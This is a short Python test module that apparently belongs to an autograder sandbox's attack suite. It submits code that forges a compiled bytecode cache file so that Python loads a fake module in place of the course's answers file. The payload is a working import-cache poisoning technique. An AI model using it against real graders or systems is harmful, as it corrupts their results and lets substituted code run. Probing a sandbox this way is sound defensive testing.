"""A compiled file is placed where Python would load it instead of the solutions.

Success: the attack leaves a trace.
"""

ALONE = True


def attack(submission):
    submission.first("""
        import importlib.util, marshal, os, struct, sys
        source = "/srv/course/answers.py"
        try:
            about = os.stat(source)
            code = marshal.dumps(compile("TOTAL = 1", source, "exec"))
            head = importlib.util.MAGIC_NUMBER
            head += struct.pack("<III", 0, int(about.st_mtime), about.st_size)
            target = importlib.util.cache_from_source(source)
            os.makedirs(os.path.dirname(target), exist_ok=True)
            open(target, "wb").write(head + code)
        except OSError as error:
            print(error)
    """)
